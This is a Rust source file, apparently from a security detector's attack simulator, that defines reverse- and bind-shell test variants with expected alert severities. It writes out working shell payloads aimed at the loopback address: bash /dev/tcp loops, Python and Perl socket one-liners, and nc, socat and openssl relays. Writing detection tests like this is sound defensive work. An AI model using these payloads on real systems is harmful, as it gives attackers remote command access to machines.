//! Shells that are commanded over a connection, which leads no farther than this host.
//!
//! The attack program is both sides: one child listens and asks for a sum, the other
//! becomes the shell that computes it. Only when the answer has come back over the
//! connection does the program answer the simulator.

use sentinel_event::{Severity, Technique};

use crate::{Expected, Family, Variant};

const SHELL: Technique = Technique::new(
    "T1059.004",
    "T1059.004",
    "Command and Scripting Interpreter: Unix Shell",
);
const RAW: Technique = Technique::new("T1095", "T1095", "Non-Application Layer Protocol");
const TECHNIQUES: &[Technique] = &[SHELL, RAW];

// One step below what the same would be with another host at the other end.
const DIRECT: Expected = Expected::Alert("reverse_shell", Severity::High);
const INWARD: Expected = Expected::Alert("reverse_shell", Severity::Medium);
const LOCAL: Expected = Expected::Alert("reverse_shell", Severity::Medium);
const ANSWERS: Expected = Expected::Alert("reverse_shell", Severity::Medium);
const HELD: Expected = Expected::Alert("reverse_shell", Severity::Medium);

macro_rules! shell {
    ($name:literal, $expected:ident, $what:literal, $steps:literal, $($word:literal),+) => {
        Variant::of(
            concat!("reverse-shell/", $name),
            $expected,
            TECHNIQUES,
            $what,
            $steps,
            &["shell", $($word),+],
        )
    };
}

/// Every way that the simulator knows.
pub(crate) const FAMILY: Family = Family {
    name: "reverse-shell",
    summary: "a shell that is commanded over a connection, here within this host",
    variants: &[
        shell!(
            "tcp4",
            DIRECT,
            "a shell on a TCP connection",
            "socket, connect(127.0.0.1), dup3 onto 0, 1 and 2, execve(sh)",
            "v4",
            "dup",
            "/bin/sh"
        ),
        shell!(
            "tcp4-i386",
            DIRECT,
            "a shell on a TCP connection, by 32-bit system calls",
            "socket, connect, dup3 and execve(sh) by int 0x80",
            "v4",
            "dup",
            "/bin/sh"
        )
        .narrow(),
        shell!(
            "tcp6",
            DIRECT,
            "a shell on a TCP connection of IPv6",
            "socket, connect(::1), dup3 onto 0, 1 and 2, execve(sh)",
            "v6",
            "dup",
            "/bin/sh"
        ),
        shell!(
            "fcntl",
            DIRECT,
            "a shell on a connection that was moved by fcntl",
            "connect, close(0), fcntl(F_DUPFD, 0) and so on, execve(sh)",
            "v4",
            "fcntl",
            "/bin/sh"
        ),
        shell!(
            "io-uring",
            DIRECT,
            "a shell on a connection that was made through io_uring",
            "io_uring_setup, IORING_OP_CONNECT, dup3, execve(sh)",
            "v4",
            "uring",
            "/bin/sh"
        ),
        shell!(
            "scm-rights",
            DIRECT,
            "a shell on a connection that another process made and passed",
            "connect, sendmsg(SCM_RIGHTS); recvmsg, dup3, execve(sh)",
            "v4",
            "scm-rights",
            "/bin/sh"
        ),
        shell!(
            "pidfd-getfd",
            DIRECT,
            "a shell on a connection that was taken from another process",
            "connect; pidfd_open, pidfd_getfd, dup3, execve(sh)",
            "v4",
            "pidfd-getfd",
            "/bin/sh"
        ),
        shell!(
            "running",
            DIRECT,
            "a shell that already runs and moves to a connection",
            "connect, execve(sh) on a pipe; exec 0<&9 1>&9 2>&9",
            "v4",
            "running",
            "/bin/sh"
        ),
        shell!(
            "running-bash",
            DIRECT,
            "bash that opens a connection, moves to it and reads commands line by line",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT 0<&3 1>&3 2>&3; while read ...; eval'",
            "v4",
            "command",
            "{find bash}",
            "-c",
            "exec 3<>/dev/tcp/127.0.0.1/PORT; exec 0<&3 1>&3 2>&3; while read -r line; do eval \"$line\"; done"
        ),
        shell!(
            "unix",
            LOCAL,
            "a shell on a Unix socket, at whose other end anybody may be",
            "socket(AF_UNIX), connect, dup3 onto 0, 1 and 2, execve(sh)",
            "unix",
            "dup",
            "/bin/sh"
        ),
        shell!(
            "unix-bind",
            LOCAL,
            "a shell for whoever connects to a Unix socket",
            "bind, listen, accept4, dup3 onto 0, 1 and 2, execve(sh)",
            "unix",
            "bind",
            "/bin/sh"
        ),
        shell!(
            "vsock",
            LOCAL,
            "a shell on a vsock, as between a machine and its guest",
            "socket(AF_VSOCK), connect(VMADDR_CID_LOCAL), dup3 onto 0, 1 and 2, execve(sh)",
            "vsock",
            "dup",
            "/bin/sh"
        ),
        shell!(
            "fork",
            DIRECT,
            "a shell whose parents are gone, in a session of its own",
            "connect, fork, setsid, fork, dup3, execve(sh)",
            "v4",
            "fork",
            "/bin/sh"
        ),
        shell!(
            "bind",
            INWARD,
            "a shell for whoever connects",
            "bind, listen, accept4, dup3 onto 0, 1 and 2, execve(sh)",
            "v4",
            "bind",
            "/bin/sh"
        ),
        shell!(
            "accept-on-0",
            INWARD,
            "a shell on a connection that was accepted as standard input",
            "bind, listen, close(0), accept4, dup3 onto 1 and 2, execve(sh)",
            "v4",
            "accept-on-0",
            "/bin/sh"
        ),
        shell!(
            "pipes",
            HELD,
            "a shell on pipes that a program joins with its connection",
            "connect, pipe2, fork, execve(sh) on the pipes, read and write in turn",
            "v4",
            "pipes",
            "/bin/sh"
        ),
        shell!(
            "terminal",
            HELD,
            "a shell on a terminal that a program joins with its connection",
            "connect, open(/dev/ptmx), fork, setsid, TIOCSCTTY, execve(sh)",
            "v4",
            "terminal",
            "/bin/sh"
        ),
        shell!(
            "fifo",
            DIRECT,
            "a shell in a circle with a relay, as with mkfifo and nc",
            "mkfifo f; cat f | sh 2>&1 | RELAY 127.0.0.1 PORT > f",
            "v4",
            "command",
            "/bin/sh",
            "-c",
            "mkfifo {folder}/f; cat {folder}/f | sh 2>&1 | {program} relay PORT > {folder}/f"
        ),
        shell!(
            "fifo-direct",
            DIRECT,
            "a shell in a circle with a relay and nothing between, as with openssl s_client",
            "mkfifo f; sh < f 2>&1 | RELAY 127.0.0.1 PORT > f",
            "v4",
            "command",
            "/bin/sh",
            "-c",
            "mkfifo {folder}/f; sh < {folder}/f 2>&1 | {program} relay PORT > {folder}/f"
        ),
        shell!(
            "bash",
            DIRECT,
            "bash on a connection of its own",
            "bash -c 'exec bash <>/dev/tcp/127.0.0.1/PORT >&0 2>&0'",
            "v4",
            "command",
            "{find bash}",
            "-c",
            "exec {find bash} <>/dev/tcp/127.0.0.1/PORT >&0 2>&0"
        ),
        shell!(
            "python",
            DIRECT,
            "Python's well-known line",
            "python3 -c 'socket, connect, os.dup2, subprocess.call([sh])'",
            "v4",
            "command",
            "{find python3}",
            "-c",
            "import socket,os,subprocess as p;s=socket.create_connection(('127.0.0.1',PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];p.call(['/bin/sh'])"
        ),
        shell!(
            "python-pty",
            HELD,
            "Python's well-known line with a terminal",
            "python3 -c 'socket, connect, os.dup2, pty.spawn(sh)'",
            "v4",
            "command",
            "{find python3}",
            "-c",
            "import socket,os,pty;s=socket.create_connection(('127.0.0.1',PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
        ),
        shell!(
            "perl",
            DIRECT,
            "Perl's well-known line",
            "perl -MSocket -e 'socket, connect, open STDIN, exec sh'",
            "v4",
            "command",
            "{find perl}",
            "-MSocket",
            "-e",
            "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh');"
        ),
        shell!(
            "read-loop",
            ANSWERS,
            "bash that has each line of a connection executed, on no stream of its own",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read ...; sh -c ... >&5'",
            "v4",
            "command",
            "{find bash}",
            "-c",
            "exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read -r line; do sh -c \"$line\" 2>&5 >&5; done"
        ),
        shell!(
            "script",
            HELD,
            "a shell on a terminal that `script` makes, which has a connection as its input",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; script -qc sh /dev/null <&3 >&3 2>&3'",
            "v4",
            "command",
            "{find bash}",
            "-c",
            "exec 3<>/dev/tcp/127.0.0.1/PORT; {find script} -qc /bin/sh /dev/null <&3 >&3 2>&3"
        ),
        shell!(
            "late",
            HELD,
            "a shell on pipes whose holder connects only when it runs",
            "python3 -c 'subprocess.Popen(sh), connect, read and write in turn'",
            "v4",
            "command",
            "{find python3}",
            "-c",
            "import socket,subprocess as p,time;h=p.Popen(['/bin/sh'],stdin=-1,stdout=-1,bufsize=0);time.sleep(.2);s=socket.create_connection(('127.0.0.1',PORT));h.stdin.write(s.recv(4096));s.sendall(h.stdout.readline());s.recv(1)"
        ),
        shell!(
            "errands-python",
            HELD,
            "Python that runs one command after the other and sends back what each said",
            "python3 -c 'connect, subprocess.run(line, shell=True, capture_output=True)'",
            "v4",
            "command",
            "{find python3}",
            "-c",
            "import socket,subprocess as p\ns=socket.create_connection(('127.0.0.1',PORT))\nfor line in s.makefile(): s.sendall(p.run('id >/dev/null; '+line,shell=True,capture_output=True).stdout)"
        ),
        shell!(
            "errands-perl",
            HELD,
            "Perl that runs one command after the other and sends back what each said",
            "perl -MSocket -e 'connect, print S `line` while <S>'",
            "v4",
            "command",
            "{find perl}",
            "-MSocket",
            "-e",
            "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1')));select(S);$|=1;print `id >/dev/null; $_` while <S>;"
        ),
        shell!(
            "nc",
            DIRECT,
            "netcat with a FIFO",
            "mkfifo f; cat f | sh 2>&1 | nc 127.0.0.1 PORT > f",
            "v4",
            "command",
            "/bin/sh",
            "-c",
            "mkfifo {folder}/f; cat {folder}/f | sh 2>&1 | {find nc} 127.0.0.1 PORT > {folder}/f"
        ),
        shell!(
            "socat",
            HELD,
            "socat with a terminal",
            "socat TCP:127.0.0.1:PORT EXEC:sh,pty,setsid,ctty",
            "v4",
            "command",
            "{find socat}",
            "TCP:127.0.0.1:PORT",
            "EXEC:/bin/sh,pty,stderr,setsid,ctty"
        ),
        shell!(
            "socat-direct",
            DIRECT,
            "socat that gives its connection to a shell",
            "socat TCP:127.0.0.1:PORT EXEC:sh,nofork",
            "v4",
            "command",
            "{find socat}",
            "TCP:127.0.0.1:PORT",
            "EXEC:/bin/sh,nofork"
        ),
        shell!(
            "nc-exec",
            DIRECT,
            "netcat that starts a shell on its connection",
            "nc.traditional -e /bin/sh 127.0.0.1 PORT",
            "v4",
            "command",
            "{find nc.traditional}",
            "-e",
            "/bin/sh",
            "127.0.0.1",
            "PORT"
        ),
        shell!(
            "openssl",
            DIRECT,
            "openssl with a FIFO, encrypted to another openssl that passes it on",
            "openssl s_server | RELAY 127.0.0.1 PORT; sh < f | openssl s_client > f",
            "v4",
            "command",
            "/bin/sh",
            "-c",
            "cd {folder} && mkfifo f g && S=$((PORT - 20000)) && ({program} relay PORT < g | {find openssl} s_server -quiet -nocert -psk 5e17 -naccept 1 -accept 127.0.0.1:$S > g 2>/dev/null &) && for i in 1 2 3 4 5 6 7 8 9 10 11 12; do sleep 0.3; sh < f 2>&1 | {find openssl} s_client -quiet -psk 5e17 -connect 127.0.0.1:$S > f 2>/dev/null && break; done"
        ),
    ],
};
